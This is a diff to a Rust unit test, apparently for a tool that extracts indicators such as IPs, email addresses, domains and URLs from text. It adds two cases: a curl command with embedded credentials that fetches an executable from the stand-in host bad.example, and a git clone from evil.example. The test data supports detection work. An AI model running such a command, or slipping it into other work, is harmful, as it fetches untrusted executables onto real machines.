@@ -138,6 +138,8 @@ fn indicators_are_found_in_text() {
     check("ssh root@203.0.113.7", &["~ 203.0.113.7"]);
     check("send to boss@phish.example.", &["~ boss@phish.example"]);
     check("see evil.example.", &["~ evil.example"]);
+    check("curl -k https://u:p@bad.example/one.exe", &["~ https://bad.example/one.exe"]);
+    check("git clone ssh://git@evil.example/x", &["~ evil.example"]);
     check("C:\\tools\\evil.example /x", &[]);
     check("/opt/evil.example", &[]);
     check("x.notevil.example 203.0.113.77 1.203.0.113.7", &[]);
